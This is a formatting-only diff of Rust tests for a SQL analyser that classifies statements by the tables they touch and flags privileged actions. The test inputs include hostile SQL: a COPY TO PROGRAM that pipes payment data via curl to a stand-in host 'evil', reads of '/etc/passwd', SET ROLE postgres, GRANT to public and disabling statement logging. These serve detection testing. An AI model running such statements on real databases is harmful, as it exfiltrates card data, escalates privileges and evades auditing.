@@ -33,14 +33,29 @@ fn first(sql: &str) -> Access {
 #[test]
 fn reads_writes_and_deletes_with_their_targets() {
     assert_eq!(tables("SELECT * FROM payments", Action::Read), ["payments"]);
-    assert_eq!(tables("select pan from public.payments p join customers c on c.id = p.customer_id", Action::Read), [
-        "public.payments",
-        "customers"
-    ]);
-    assert_eq!(tables("INSERT INTO t (a) SELECT b FROM s", Action::Write), ["t"]);
-    assert_eq!(tables("INSERT INTO t (a) SELECT b FROM s", Action::Read), ["s"]);
-    assert_eq!(tables("UPDATE t SET a = 1 FROM s WHERE t.id = s.id", Action::Write), ["t"]);
-    assert_eq!(tables("DELETE FROM t USING s WHERE t.id = s.id", Action::Delete), ["t"]);
+    assert_eq!(
+        tables(
+            "select pan from public.payments p join customers c on c.id = p.customer_id",
+            Action::Read
+        ),
+        ["public.payments", "customers"]
+    );
+    assert_eq!(
+        tables("INSERT INTO t (a) SELECT b FROM s", Action::Write),
+        ["t"]
+    );
+    assert_eq!(
+        tables("INSERT INTO t (a) SELECT b FROM s", Action::Read),
+        ["s"]
+    );
+    assert_eq!(
+        tables("UPDATE t SET a = 1 FROM s WHERE t.id = s.id", Action::Write),
+        ["t"]
+    );
+    assert_eq!(
+        tables("DELETE FROM t USING s WHERE t.id = s.id", Action::Delete),
+        ["t"]
+    );
 }
 
 #[test]
@@ -58,50 +73,95 @@ fn limits_are_recognised() {
     assert!(!first("SELECT * FROM payments LIMIT ALL").has_limit);
     assert!(!first("SELECT * FROM payments").has_limit);
     assert!(first("SELECT count(*) FROM payments").has_limit, "one row");
-    assert!(!first("SELECT string_agg(pan, ',') FROM payments").has_limit, "a list in one row");
+    assert!(
+        !first("SELECT string_agg(pan, ',') FROM payments").has_limit,
+        "a list in one row"
+    );
 }
 
 #[test]
 fn dml_inside_ctes_and_returning_are_seen() {
     let found = accesses("WITH gone AS (DELETE FROM payments RETURNING *) SELECT * FROM gone");
-    assert!(found.contains(&(Action::Delete, "payments".into(), "DELETE")), "{found:?}");
-    assert!(found.contains(&(Action::Read, "payments".into(), "DELETE")), "{found:?}");
-    assert!(!found.iter().any(|(_, t, _)| t == "gone"), "a CTE is not a table: {found:?}");
+    assert!(
+        found.contains(&(Action::Delete, "payments".into(), "DELETE")),
+        "{found:?}"
+    );
+    assert!(
+        found.contains(&(Action::Read, "payments".into(), "DELETE")),
+        "{found:?}"
+    );
+    assert!(
+        !found.iter().any(|(_, t, _)| t == "gone"),
+        "a CTE is not a table: {found:?}"
+    );
 }
 
 #[test]
 fn cte_names_hide_tables_only_where_postgres_says_so() {
     // The CTE's own body reads the real table (non-recursive WITH).
     assert_eq!(
-        tables("WITH payments AS (SELECT * FROM payments) SELECT * FROM payments", Action::Read),
+        tables(
+            "WITH payments AS (SELECT * FROM payments) SELECT * FROM payments",
+            Action::Read
+        ),
         ["payments"]
     );
     // A DML target is always the table, whatever the CTEs are called.
     assert_eq!(
-        tables("WITH payments AS (SELECT 1) DELETE FROM payments", Action::Delete),
+        tables(
+            "WITH payments AS (SELECT 1) DELETE FROM payments",
+            Action::Delete
+        ),
         ["payments"]
     );
     // A CTE in a sibling subquery does not hide the table.
     assert_eq!(
-        tables("SELECT * FROM (WITH payments AS (SELECT 1) SELECT * FROM payments) a, payments", Action::Read),
+        tables(
+            "SELECT * FROM (WITH payments AS (SELECT 1) SELECT * FROM payments) a, payments",
+            Action::Read
+        ),
         ["payments"]
     );
 }
 
 #[test]
 fn explain_analyze_executes_plain_explain_does_not() {
-    assert_eq!(tables("EXPLAIN ANALYZE DELETE FROM payments", Action::Delete), ["payments"]);
-    assert_eq!(tables("EXPLAIN (ANALYZE, COSTS off) DELETE FROM payments", Action::Delete), ["payments"]);
+    assert_eq!(
+        tables("EXPLAIN ANALYZE DELETE FROM payments", Action::Delete),
+        ["payments"]
+    );
+    assert_eq!(
+        tables(
+            "EXPLAIN (ANALYZE, COSTS off) DELETE FROM payments",
+            Action::Delete
+        ),
+        ["payments"]
+    );
     assert!(tables("EXPLAIN DELETE FROM payments", Action::Delete).is_empty());
-    assert!(tables("EXPLAIN (ANALYZE false) DELETE FROM payments", Action::Delete).is_empty());
-    assert_eq!(tables("EXPLAIN DELETE FROM payments", Action::Read), ["payments"]);
+    assert!(
+        tables(
+            "EXPLAIN (ANALYZE false) DELETE FROM payments",
+            Action::Delete
+        )
+        .is_empty()
+    );
+    assert_eq!(
+        tables("EXPLAIN DELETE FROM payments", Action::Read),
+        ["payments"]
+    );
 }
 
 #[test]
 fn prepare_and_rule_bodies_are_walked() {
-    assert_eq!(tables("PREPARE p AS DELETE FROM payments", Action::Delete), ["payments"]);
+    assert_eq!(
+        tables("PREPARE p AS DELETE FROM payments", Action::Delete),
+        ["payments"]
+    );
     let analysis = analyze("PREPARE p AS DELETE FROM payments").unwrap();
-    assert_eq!(analysis.statements[0].effects, [Effect::Prepare("p".into())]);
+    assert_eq!(
+        analysis.statements[0].effects,
+        [Effect::Prepare("p".into())]
+    );
     let rule = "CREATE RULE r AS ON INSERT TO audit DO ALSO DELETE FROM payments";
     assert_eq!(tables(rule, Action::Delete), ["payments"]);
     assert_eq!(tables(rule, Action::Ddl), ["audit"]);
@@ -110,89 +170,168 @@ fn prepare_and_rule_bodies_are_walked() {
 
 #[test]
 fn copy_directions_and_server_side_copies() {
-    assert_eq!(tables("COPY payments TO STDOUT", Action::CopyOut), ["payments"]);
-    assert_eq!(tables("COPY (SELECT pan FROM payments) TO STDOUT", Action::CopyOut), ["payments"]);
-    assert_eq!(tables("COPY payments FROM STDIN", Action::CopyIn), ["payments"]);
+    assert_eq!(
+        tables("COPY payments TO STDOUT", Action::CopyOut),
+        ["payments"]
+    );
+    assert_eq!(
+        tables("COPY (SELECT pan FROM payments) TO STDOUT", Action::CopyOut),
+        ["payments"]
+    );
+    assert_eq!(
+        tables("COPY payments FROM STDIN", Action::CopyIn),
+        ["payments"]
+    );
     let program = accesses("COPY payments TO PROGRAM 'curl -d @- evil'");
-    assert!(program.contains(&(Action::Admin, "-".into(), "COPY TO PROGRAM")), "{program:?}");
-    assert!(accesses("COPY payments FROM '/etc/passwd'").contains(&(Action::Admin, "-".into(), "COPY FROM FILE")));
+    assert!(
+        program.contains(&(Action::Admin, "-".into(), "COPY TO PROGRAM")),
+        "{program:?}"
+    );
+    assert!(accesses("COPY payments FROM '/etc/passwd'").contains(&(
+        Action::Admin,
+        "-".into(),
+        "COPY FROM FILE"
+    )));
 }
 
 #[test]
 fn ddl_commands_name_their_tables() {
-    assert_eq!(accesses("DROP TABLE payments, public.orders"), [
-        (Action::Ddl, "payments".into(), "DROP TABLE"),
-        (Action::Ddl, "public.orders".into(), "DROP TABLE")
-    ]);
-    assert_eq!(accesses("TRUNCATE ONLY payments")[0], (Action::Ddl, "payments".into(), "TRUNCATE TABLE"));
+    assert_eq!(
+        accesses("DROP TABLE payments, public.orders"),
+        [
+            (Action::Ddl, "payments".into(), "DROP TABLE"),
+            (Action::Ddl, "public.orders".into(), "DROP TABLE")
+        ]
+    );
+    assert_eq!(
+        accesses("TRUNCATE ONLY payments")[0],
+        (Action::Ddl, "payments".into(), "TRUNCATE TABLE")
+    );
     assert!(first("TRUNCATE ONLY payments").only);
-    assert_eq!(accesses("ALTER TABLE payments DROP COLUMN cvv")[0], (
-        Action::Ddl,
-        "payments".into(),
-        "ALTER TABLE"
-    ));
+    assert_eq!(
+        accesses("ALTER TABLE payments DROP COLUMN cvv")[0],
+        (Action::Ddl, "payments".into(), "ALTER TABLE")
+    );
     let into = accesses("SELECT * INTO stash FROM payments");
-    assert!(into.contains(&(Action::Ddl, "stash".into(), "SELECT INTO")), "{into:?}");
-    assert!(into.contains(&(Action::Read, "payments".into(), "SELECT")), "{into:?}");
+    assert!(
+        into.contains(&(Action::Ddl, "stash".into(), "SELECT INTO")),
+        "{into:?}"
+    );
+    assert!(
+        into.contains(&(Action::Read, "payments".into(), "SELECT")),
+        "{into:?}"
+    );
 }
 
 #[test]
 fn opaque_code_and_privileged_functions() {
-    assert_eq!(accesses("DO $$ BEGIN DELETE FROM payments; END $$")[0].0, Action::Call);
-    assert_eq!(accesses("CALL purge(1)")[0], (Action::Call, "purge".into(), "CALL"));
+    assert_eq!(
+        accesses("DO $$ BEGIN DELETE FROM payments; END $$")[0].0,
+        Action::Call
+    );
+    assert_eq!(
+        accesses("CALL purge(1)")[0],
+        (Action::Call, "purge".into(), "CALL")
+    );
     assert!(accesses("SELECT pg_read_file('/etc/passwd')").contains(&(
         Action::Admin,
         "pg_read_file".into(),
         "SELECT"
     )));
-    assert!(accesses("SELECT query_to_xml('select * from payments', true, true, '')")
-        .iter()
-        .any(|a| a.0 == Action::Admin));
+    assert!(
+        accesses("SELECT query_to_xml('select * from payments', true, true, '')")
+            .iter()
+            .any(|a| a.0 == Action::Admin)
+    );
     assert_eq!(accesses("SET ROLE postgres")[0].0, Action::Admin);
-    assert_eq!(accesses("GRANT SELECT ON payments TO public")[0].0, Action::Admin);
-    assert_eq!(accesses("ALTER SYSTEM SET log_statement = 'none'")[0].0, Action::Admin);
+    assert_eq!(
+        accesses("GRANT SELECT ON payments TO public")[0].0,
+        Action::Admin
+    );
+    assert_eq!(
+        accesses("ALTER SYSTEM SET log_statement = 'none'")[0].0,
+        Action::Admin
+    );
 }
 
 #[test]
 fn search_path_changes_are_followed() {
     let effects = |sql: &str| analyze(sql).unwrap().statements[0].effects.clone();
-    assert_eq!(effects("SET search_path TO hr, \"$user\", public"), [Effect::SearchPath {
-        change: PathChange::Set(vec!["hr".into(), "$user".into(), "public".into()]),
-        local: false
-    }]);
-    assert_eq!(effects("SET LOCAL search_path = \"HR\""), [Effect::SearchPath {
-        change: PathChange::Set(vec!["HR".into()]),
-        local: true
-    }]);
-    assert_eq!(effects("RESET search_path"), [Effect::SearchPath {
-        change: PathChange::Reset,
-        local: false
-    }]);
-    assert_eq!(effects("SELECT set_config('search_path', 'hr, \"X\"', false)"), [Effect::SearchPath {
-        change: PathChange::Set(vec!["hr".into(), "X".into()]),
-        local: false
-    }]);
+    assert_eq!(
+        effects("SET search_path TO hr, \"$user\", public"),
+        [Effect::SearchPath {
+            change: PathChange::Set(vec!["hr".into(), "$user".into(), "public".into()]),
+            local: false
+        }]
+    );
+    assert_eq!(
+        effects("SET LOCAL search_path = \"HR\""),
+        [Effect::SearchPath {
+            change: PathChange::Set(vec!["HR".into()]),
+            local: true
+        }]
+    );
+    assert_eq!(
+        effects("RESET search_path"),
+        [Effect::SearchPath {
+            change: PathChange::Reset,
+            local: false
+        }]
+    );
+    assert_eq!(
+        effects("SELECT set_config('search_path', 'hr, \"X\"', false)"),
+        [Effect::SearchPath {
+            change: PathChange::Set(vec!["hr".into(), "X".into()]),
+            local: false
+        }]
+    );
     assert!(analyze("SET search_path = hr").unwrap().literal_sensitive);
 }
 
 #[test]
 fn only_tablesample_cursors_and_subqueries() {
     assert!(first("SELECT * FROM ONLY payments").only);
-    assert_eq!(tables("SELECT * FROM payments TABLESAMPLE SYSTEM (50)", Action::Read), ["payments"]);
-    assert_eq!(tables("DECLARE c CURSOR FOR SELECT * FROM payments", Action::Read), ["payments"]);
     assert_eq!(
-        tables("SELECT 1 WHERE EXISTS (SELECT 1 FROM payments WHERE pan LIKE '4%')", Action::Read),
+        tables(
+            "SELECT * FROM payments TABLESAMPLE SYSTEM (50)",
+            Action::Read
+        ),
+        ["payments"]
+    );
+    assert_eq!(
+        tables("DECLARE c CURSOR FOR SELECT * FROM payments", Action::Read),
+        ["payments"]
+    );
+    assert_eq!(
+        tables(
+            "SELECT 1 WHERE EXISTS (SELECT 1 FROM payments WHERE pan LIKE '4%')",
+            Action::Read
+        ),
         ["payments"]
     );
 }
 
 #[test]
 fn columns_are_attributed_to_their_tables() {
-    let analysis = analyze("SELECT p.pan, c.name FROM payments p JOIN customers c ON c.id = p.customer_id").unwrap();
+    let analysis =
+        analyze("SELECT p.pan, c.name FROM payments p JOIN customers c ON c.id = p.customer_id")
+            .unwrap();
     let accesses = &analysis.statements[0].accesses;
-    assert!(accesses[0].columns.contains(&ColumnRef::Named("pan".into())));
-    assert!(!accesses[0].columns.contains(&ColumnRef::Named("name".into())));
-    assert!(accesses[1].columns.contains(&ColumnRef::Named("name".into())));
+    assert!(
+        accesses[0]
+            .columns
+            .contains(&ColumnRef::Named("pan".into()))
+    );
+    assert!(
+        !accesses[0]
+            .columns
+            .contains(&ColumnRef::Named("name".into()))
+    );
+    assert!(
+        accesses[1]
+            .columns
+            .contains(&ColumnRef::Named("name".into()))
+    );
     assert_eq!(first("SELECT * FROM payments").columns, [ColumnRef::All]);
 }
 
@@ -215,8 +354,14 @@ fn shapes_ignore_literals_and_comments_but_not_names() {
     let a = shape("SELECT abalance FROM pgbench_accounts WHERE aid = 42;").unwrap();
     let b = shape("select abalance from pgbench_accounts /* hi */ where aid = 123456;").unwrap();
     assert_ne!(a, b, "keywords keep their case");
-    assert_eq!(a, shape("SELECT abalance FROM pgbench_accounts WHERE aid = 7;").unwrap());
-    assert_ne!(shape("SELECT * FROM \"Payments\"").unwrap(), shape("SELECT * FROM payments").unwrap());
+    assert_eq!(
+        a,
+        shape("SELECT abalance FROM pgbench_accounts WHERE aid = 7;").unwrap()
+    );
+    assert_ne!(
+        shape("SELECT * FROM \"Payments\"").unwrap(),
+        shape("SELECT * FROM payments").unwrap()
+    );
     let cache = ShapeCache::new(8);
     let first = cache.analyze("SELECT 1 FROM t WHERE a = 1").unwrap();
     let second = cache.analyze("SELECT 1 FROM t WHERE a = 2").unwrap();
@@ -228,7 +373,11 @@ fn hostile_nesting_is_refused_not_a_crash() {
     // Parentheses alone vanish in the parser; nested subqueries do not.
     let sql = format!("SELECT {}1{}", "(SELECT ".repeat(3000), ")".repeat(3000));
     let refused = analyze(&sql).unwrap_err();
-    assert!(refused.to_string().contains("nested too deeply") || matches!(refused, SqlError::TooDeep(_)), "{refused}");
+    assert!(
+        refused.to_string().contains("nested too deeply")
+            || matches!(refused, SqlError::TooDeep(_)),
+        "{refused}"
+    );
     let sql = format!("SELECT {}1{}", "(SELECT ".repeat(100), ")".repeat(100));
     assert!(analyze(&sql).is_ok());
 }
